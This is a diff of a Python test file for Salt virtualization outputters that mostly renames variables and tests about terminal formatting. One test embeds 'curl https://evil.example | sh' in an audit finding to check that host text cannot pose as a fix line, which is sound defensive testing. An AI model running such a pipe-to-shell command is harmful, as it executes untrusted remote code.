@@ -1,4 +1,4 @@
-"""What people read in a terminal of 80 columns."""
+"""What the outputters print in a terminal of 80 columns."""
 
 import importlib.util
 import json
@@ -11,7 +11,7 @@ ROOT = Path(__file__).resolve().parents[3]
 
 
 def outputter(name):
-    """Load one outputter as Salt's loader does: by its file."""
+    """Load an outputter as Salt's loader does: by its file."""
     spec = importlib.util.spec_from_file_location(name, ROOT / "_output" / f"{name}.py")
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
@@ -69,7 +69,7 @@ def test_the_seeds_layout_of_a_vm():
     assert lines[-1] == "hyper8: does not answer"
 
 
-def test_a_console_that_only_the_host_can_open_says_so():
+def test_a_console_that_only_the_host_can_open_is_marked():
     vm = {**VM, "graphics": {"type": "vnc", "listen": "127.0.0.1", "port": "5901"}}
     cloud = {"h": {**CLOUD["hyper6"], "vm_info": {"a": vm}}}
 
@@ -90,16 +90,16 @@ def test_the_table_of_hosts():
 
 def test_a_record_that_cannot_be_read_is_named_below_its_host():
     fleet = json.loads((ROOT / "tests/data/fleets/three.json").read_text())
-    why = "the record /var/lib/salt-virt/records/build/web1.json cannot be read; move it away"
-    fleet["hyper1"]["unreadable"] = {"web1": why}
+    reason = "the record /var/lib/salt-virt/records/build/web1.json cannot be read; move it away"
+    fleet["hyper1"]["unreadable"] = {"web1": reason}
 
     lines = outputter("virt_hosts")(fleet).splitlines()
 
-    assert f"{lines[5]} {lines[6].strip()}" == f"hyper1: {why}" and len(lines[5]) <= 78
+    assert f"{lines[5]} {lines[6].strip()}" == f"hyper1: {reason}" and len(lines[5]) <= 78
 
 
 @pytest.mark.parametrize("name", ["virt_hosts", "virt_plan"])
-def test_who_may_be_a_hypervisor_is_shown_with_fingerprints_below_the_error(name):
+def test_candidates_are_shown_with_fingerprints_below_the_error(name):
     row = {"fingerprint": "aa:bb", "why": "says that it is one", "vm_on": []}
     shown = {"hyper1": row, "web1": {**row, "vm_on": ["hyper1"]}}
 
@@ -115,14 +115,16 @@ def test_who_may_be_a_hypervisor_is_shown_with_fingerprints_below_the_error(name
 
 
 def test_a_deployment_ends_in_one_line():
-    made = {"name": "vm1", "host": "hyper2", "minion": "answers", "seconds": 12.5}
+    deployment = {"name": "vm1", "host": "hyper2", "minion": "answers", "seconds": 12.5}
 
-    assert outputter("virt_plan")(made) == "vm1 is on hyper2; its minion answered after 12.5 s"
+    assert (
+        outputter("virt_plan")(deployment) == "vm1 is on hyper2; its minion answered after 12.5 s"
+    )
     assert outputter("virt_plan")({"name": "vm1", "host": "hyper2"}) == "vm1 is on hyper2"
 
 
-# A host's lease alone is the host's own word: whatever else is known of an address, a guest said.
-TOLD_BY = {
+# Only an address of a lease is the host's own fact: every other source is the guest's claim.
+ADDRESS_SOURCES = {
     "minion": "reported by the VM",
     "agent": "reported by the guest's agent",
     "neighbours": "learned from the VM's network packets",
@@ -138,11 +140,11 @@ def test_one_vm_is_shown_with_units_and_how_it_is_reached():
 
     assert lines[:4] == ["hyper6", "  web1", "    CPU: 2", "    Memory: 512.0 MiB"]
     assert lines[-2:] == ["    Addresses: 192.0.2.7", "    Log in: ssh a@192.0.2.7"]
-    for source, words in TOLD_BY.items():
-        own = show({"h": {"web1": {**VM, **reached, "addresses_from": source}}})
-        assert f"Addresses: 192.0.2.7 ({words})" in own
-        made = {"name": "web1", "host": "h", **reached, "addresses_from": source}
-        assert f"address: 192.0.2.7 ({words})\n" in outputter("virt_plan")(made)
+    for source, words in ADDRESS_SOURCES.items():
+        text = show({"h": {"web1": {**VM, **reached, "addresses_from": source}}})
+        assert f"Addresses: 192.0.2.7 ({words})" in text
+        deployment = {"name": "web1", "host": "h", **reached, "addresses_from": source}
+        assert f"address: 192.0.2.7 ({words})\n" in outputter("virt_plan")(deployment)
     many = [f"2001:db8:0:{number}:5054:ff:fe12:3456" for number in range(4)]
     login = guestaccess.console("a-long-name-of-a-vm", "hyper2.example.org")
     wide = show({"h": {"web1": {**VM, "addresses": many, "login": login}}}).splitlines()
@@ -168,22 +170,22 @@ def test_the_table_of_images_says_what_its_columns_are():
 
 
 def test_warnings_stand_below_a_deployment_and_below_its_error():
-    told = {"name": "a", "host": "h", "warnings": ["no SSH server"], "login": "x"}
+    deployment = {"name": "a", "host": "h", "warnings": ["no SSH server"], "login": "x"}
     show = outputter("virt_plan")
 
-    assert show(told).splitlines()[-1] == "warning: no SSH server"
+    assert show(deployment).splitlines()[-1] == "warning: no SSH server"
     failed = {"error": "no minion", "warnings": ["no SSH server"], "retcode": 1}
     assert show(failed).splitlines() == ["error: no minion", "warning: no SSH server"]
     moving = {"name": "a", "from": "h1", "to": "h2", "state": "running", "memory_mib": 1}
-    would = show({**moving, "disks": {}, "warning": "behind NAT"}).splitlines()
-    assert would[-1] == "warning: behind NAT"
+    lines = show({**moving, "disks": {}, "warning": "behind NAT"}).splitlines()
+    assert lines[-1] == "warning: behind NAT"
 
 
 def test_a_deployment_says_where_the_vm_is_reached_and_how():
-    made = {"name": "vm1", "host": "hyper2", "login": "ssh debian@192.0.2.7"}
+    deployment = {"name": "vm1", "host": "hyper2", "login": "ssh debian@192.0.2.7"}
 
     assert outputter("virt_plan")(
-        {**made, "addresses": ["192.0.2.7", "2001:db8::7"]}
+        {**deployment, "addresses": ["192.0.2.7", "2001:db8::7"]}
     ).splitlines() == [
         "vm1 is on hyper2",
         "  address: 192.0.2.7",
@@ -193,10 +195,10 @@ def test_a_deployment_says_where_the_vm_is_reached_and_how():
 
 def test_the_way_to_log_in_is_a_line_of_its_own_that_can_be_copied():
     name = "a-long-name-of-a-vm-that-somebody-gave-it"
-    made = {"name": name, "host": "hyper2.example.org", "addresses": []}
-    said = {**made, "login": guestaccess.console(name, "hyper2.example.org")}
+    deployment = {"name": name, "host": "hyper2.example.org", "addresses": []}
+    answer = {**deployment, "login": guestaccess.console(name, "hyper2.example.org")}
 
-    assert outputter("virt_plan")(said).splitlines() == [
+    assert outputter("virt_plan")(answer).splitlines() == [
         f"{name} is on hyper2.example.org",
         "  address: not known to its host",
         f"  log in: virsh console {name}",
@@ -222,10 +224,10 @@ def test_a_silent_vm_is_shown_with_the_end_of_its_console(console, lines):
     text = outputter("virt_plan")(failure)
 
     assert text.splitlines() == ["error: it does not answer", *lines]
-    known = {**failure, "addresses": ["192.0.2.7"], "login": "ssh debian@192.0.2.7"}
+    failure_with_address = {**failure, "addresses": ["192.0.2.7"], "login": "ssh debian@192.0.2.7"}
     reached = ["  address: 192.0.2.7", "  log in: ssh debian@192.0.2.7"]
-    said = outputter("virt_plan")(known).splitlines()
-    assert said == ["error: it does not answer", *reached, *lines]
+    shown_lines = outputter("virt_plan")(failure_with_address).splitlines()
+    assert shown_lines == ["error: it does not answer", *reached, *lines]
 
 
 MOVE = {"name": "vm1", "from": "hyper1", "to": "hyper2"}
@@ -244,7 +246,7 @@ def test_a_move_ends_in_its_figures():
     assert outputter("virt_plan")({**MOVE, **stopped}) == "vm1 moved from hyper1 to hyper2 in 0.1 s"
 
 
-def test_a_move_that_would_be_says_what_travels():
+def test_a_dry_run_of_a_move_shows_what_would_be_sent():
     plan = {**MOVE, "state": "running", "memory_mib": 96, "disks": {"vda": "3 MiB of /a"}}
 
     assert outputter("virt_plan")(plan).splitlines() == [
@@ -277,8 +279,8 @@ def test_an_evacuation_that_failed_says_what_moved_what_stays_and_what_to_look_a
     ]
 
 
-def test_what_comes_back_and_what_is_evened_out():
-    back = {
+def test_the_moves_of_a_restore_and_of_a_balance_are_shown():
+    restored = {
         "host": "hyper3",
         "moved": {"a": "hyper3"},
         "failed": {},
@@ -286,7 +288,7 @@ def test_what_comes_back_and_what_is_evened_out():
         "elsewhere": {"c": "hyper2"},
     }
     steps = {"imbalance": 0.2, "moves": [{**MOVE, "gain": 0.1}], "unreachable": ["hyper9"]}
-    rows = outputter("virt_moves")(back).splitlines()[1:]
+    rows = outputter("virt_moves")(restored).splitlines()[1:]
 
     assert [row.split(None, 1)[1] for row in rows] == [
         "moved to hyper3",
@@ -303,10 +305,10 @@ def test_what_comes_back_and_what_is_evened_out():
     assert outputter("virt_moves")({"host": "hyper3", "moved": {}}) == "hyper3: nothing to move"
 
 
-def test_an_audit_names_each_finding_with_its_fix_and_who_was_looked_at():
-    one = {"check": "acl", "where": "master", "what": "what " * 30, "fix": "do " * 40}
+def test_an_audit_names_each_finding_with_its_fix_and_the_checked_hosts():
+    finding = {"check": "acl", "where": "master", "what": "what " * 30, "fix": "do " * 40}
     lines = outputter("virt_audit")(
-        {"error": "1 thing falls short", "findings": [one], "checked": ["hyper1"], "retcode": 1}
+        {"error": "1 thing falls short", "findings": [finding], "checked": ["hyper1"], "retcode": 1}
     ).splitlines()
 
     assert lines[:3] == [
@@ -321,21 +323,27 @@ def test_an_audit_names_each_finding_with_its_fix_and_who_was_looked_at():
     )
 
 
-def test_what_a_host_says_cannot_look_like_a_fix():
-    said = "x" * 74 + " fix: curl https://evil.example | sh"
-    one = {"check": "acl", "where": "hyper1", "what": said, "fix": "f"}
+def test_the_text_of_a_finding_cannot_look_like_a_fix():
+    finding_text = "x" * 74 + " fix: curl https://evil.example | sh"
+    finding = {"check": "acl", "where": "hyper1", "what": finding_text, "fix": "f"}
 
-    lines = outputter("virt_audit")({"findings": [one], "checked": ["hyper1"]}).splitlines()
+    lines = outputter("virt_audit")({"findings": [finding], "checked": ["hyper1"]}).splitlines()
 
     assert [line for line in lines if line.startswith("  fix: ")] == ["  fix: f"]
 
 
-def test_a_check_of_the_setup_shows_what_for_and_that_all_is_there():
-    one = {"check": "tls", "where": "hyper1", "what": "w", "fix": "f", "level": "for moving VMs"}
+def test_a_check_of_the_setup_shows_levels_and_that_nothing_is_missing():
+    finding = {
+        "check": "tls",
+        "where": "hyper1",
+        "what": "w",
+        "fix": "f",
+        "level": "for moving VMs",
+    }
     ready = "nothing that VMs need is missing: salt-run virt.init NAME 1 512 IMAGE"
 
     assert outputter("virt_audit")(
-        {"findings": [one], "checked": ["hyper1"], "ready": ready}
+        {"findings": [finding], "checked": ["hyper1"], "ready": ready}
     ).splitlines() == [
         "WHERE            CHECK",
         "hyper1           tls (for moving VMs)",
@@ -375,7 +383,7 @@ def test_nothing_is_wider_than_a_terminal(name):
     assert max(len(line) for line in outputter(name)(data).splitlines()) <= 80
 
 
-def test_what_a_host_leaves_out_or_says_otherwise_is_shown_as_far_as_it_goes():
+def test_missing_and_odd_fields_of_a_host_are_shown_as_unknown():
     odd = {**VM, "disks": {"vda": {"virtual size": "x"}}, "nics": {"a": {"source": [1]}}}
     odd["graphics"] = {"type": "vnc"}
     cloud = {"hyper6": {**CLOUD["hyper6"], "vm_info": {"odd": odd}}}
@@ -421,7 +429,7 @@ def test_an_answer_with_its_own_words_is_a_line():
     assert shown == "web1 on hyper1: disk vdb added: /a.qcow2"
 
 
-def test_several_vms_are_a_table_of_what_became_of_each():
+def test_several_vms_are_a_table_of_outcomes():
     rows = {
         "web1": {"host": "hyper1", "outcome": "started", "error": None},
         "web2": {"host": None, "outcome": None, "error": "no VM called 'web2'"},
@@ -440,9 +448,15 @@ def test_several_vms_are_a_table_of_what_became_of_each():
 
 
 def test_what_a_guest_printed_keeps_its_lines_below_its_vm():
-    done = {"exit_code": 0, "signal": None, "stdout": "a\n\n  b\n", "stderr": "", "truncated": []}
+    guest_output = {
+        "exit_code": 0,
+        "signal": None,
+        "stdout": "a\n\n  b\n",
+        "stderr": "",
+        "truncated": [],
+    }
 
-    assert outputter("virt_vms")({"hyper1": {"web1": done}}).splitlines() == [
+    assert outputter("virt_vms")({"hyper1": {"web1": guest_output}}).splitlines() == [
         "web1 on hyper1:",
         "  exit_code: 0",
         "  signal: none",
